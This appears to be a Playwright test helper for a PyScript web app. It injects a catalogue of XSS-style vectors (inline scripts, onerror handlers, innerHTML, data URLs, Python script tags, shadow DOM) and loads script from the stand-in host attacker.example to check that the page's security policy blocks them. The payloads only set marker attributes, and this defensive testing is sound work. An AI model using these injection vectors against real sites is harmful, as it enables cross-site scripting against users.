"""What an attacker would put into the page, each in the way that works where nothing prevents it."""

from __future__ import annotations

from playwright.sync_api import BrowserContext, Page

FOREIGN = "https://attacker.example/script.js"

INJECT = """
const ran = (name) => `document.documentElement.setAttribute("data-ran-${name}", "")`;
const runPython = (name) => `import js\\n${ran(name).replace("document", "js.document")}`;

function element(tag, text, attributes = {}) {
    const made = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
    made.append(document.createTextNode(text));
    return made;
}

function interpreter(file) {
    const page = document.querySelector("script[type=module][src$='static/js/page.js']").src;
    return new URL(`../vendor/${file}`, page).href;
}

const INJECTIONS = {
    inline: () => document.head.append(element("script", ran("inline"))),
    text: () => document.head.append(Object.assign(element("script", ""), { text: ran("text") })),
    handler: () => document.body.append(element("img", "", { src: "x", onerror: ran("handler") })),
    html: () => {
        const place = document.createElement("div");
        document.body.append(place);
        place.innerHTML = `<img src="x" onerror='${ran("html")}'>`;
    },
    foreign: () => document.head.append(Object.assign(document.createElement("script"), { src: FOREIGN })),
    module: () => {
        const script = element("script", "", { type: "module" });
        document.head.append(Object.assign(script, { src: FOREIGN }));
    },
    data: () => document.head.append(Object.assign(element("script", ""), { src: `data:,${ran("data")}` })),
    mpy: () => document.body.append(element("script", runPython("mpy"), { type: "mpy" })),
    py: () => {
        const config = JSON.stringify({ interpreter: interpreter("pyodide/pyodide.mjs") });
        document.body.append(element("script", runPython("py"), { type: "py", config }));
    },
    mpytag: () => document.body.append(element("mpy-script", runPython("mpytag"))),
    micropython: () => {
        const version = interpreter("micropython/micropython.mjs");
        document.body.append(element("script", runPython("micropython"), { type: "micropython", version }));
    },
    event: () => {
        const button = element("button", "", { "mpy-click": "app.page.main" });
        button.addEventListener = () => document.documentElement.setAttribute("data-ran-event", "");
        document.body.append(button);
    },
    shadow: () => {
        const host = document.createElement("div");
        document.body.append(host);
        host.attachShadow({ mode: "open" }).append(element("script", runPython("shadow"), { type: "mpy" }));
    },
};

function inject() {
    for (const injection of Object.values(INJECTIONS)) {
        try {
            injection();
        } catch {} // Where the browser has Trusted Types, they refuse some of these.
    }
}
""".replace("FOREIGN }", f"{FOREIGN!r} }}")
"""Defines `inject`."""

BEFORE_THE_START = f"""{{
    {INJECT}
    document.addEventListener("readystatechange", inject, {{ once: true }});
    document.addEventListener("DOMContentLoaded", inject); // PyScript has begun to start.
}}"""
"""An init script that injects before PyScript has looked through the document."""

SINKS = """() => {
    const place = document.body.appendChild(document.createElement("div"));
    const script = document.createElement("script");
    const sinks = {
        innerHTML: () => (place.innerHTML = "<b>x</b>"),
        outerHTML: () => (place.firstChild.outerHTML = "<b>x</b>"),
        insertAdjacentHTML: () => place.insertAdjacentHTML("beforeend", "<b>x</b>"),
        createContextualFragment: () => document.createRange().createContextualFragment("<b>x</b>"),
        parseFromString: () => new DOMParser().parseFromString("<b>x</b>", "text/html"),
        srcdoc: () => (document.createElement("iframe").srcdoc = "<b>x</b>"),
        text: () => (script.text = "1"),
        textContent: () => (script.textContent = "1"),
        handler: () => place.setAttribute("onclick", "1"),
        src: () => (script.src = "https://attacker.example/script.js"),
        worker: () => new Worker("https://attacker.example/script.js"),
        blob: () => new Worker(URL.createObjectURL(new Blob(["1"]))),
        policy: () => trustedTypes.createPolicy("another", { createHTML: (text) => text }),
    };
    return Object.keys(sinks).filter((name) => {
        try {
            sinks[name]();
            return true;
        } catch (error) {
            return !(error instanceof TypeError);
        }
    });
}"""
"""Returns the names of the sinks that take text without a check."""

JAVASCRIPT = {"inline", "text", "handler", "html", "foreign", "data"}
"""What runs in a browser that doesn't know our policies."""

HAVE_RUN = """names => names.every(
    (name) => document.documentElement.hasAttribute(`data-ran-${name}`))"""

RAN = "() => document.documentElement.getAttributeNames().filter((name) => name.startsWith('data-ran-'))"


def serve_foreign_script(context: BrowserContext) -> None:
    """Let the attacker's server answer, should the page ask it."""
    body = "document.documentElement.setAttribute('data-ran-foreign', '')"
    headers = {"Cross-Origin-Resource-Policy": "cross-origin", "Access-Control-Allow-Origin": "*"}
    context.route(
        FOREIGN, lambda route: route.fulfill(body=body, content_type="text/javascript", headers=headers)
    )


def inject(page: Page) -> None:
    """Inject everything into a page that has started."""
    page.evaluate(f"() => {{ {INJECT} inject(); }}")


def wait_until_ran(page: Page, names: set[str]) -> None:
    """Wait until these injections, and perhaps others, have run."""
    page.wait_for_function(HAVE_RUN, arg=sorted(names))


def ran(page: Page) -> set[str]:
    """Return what has run, after a time in which all of it would have."""
    page.wait_for_timeout(3000)
    return {name.removeprefix("data-ran-") for name in page.evaluate(RAN)}
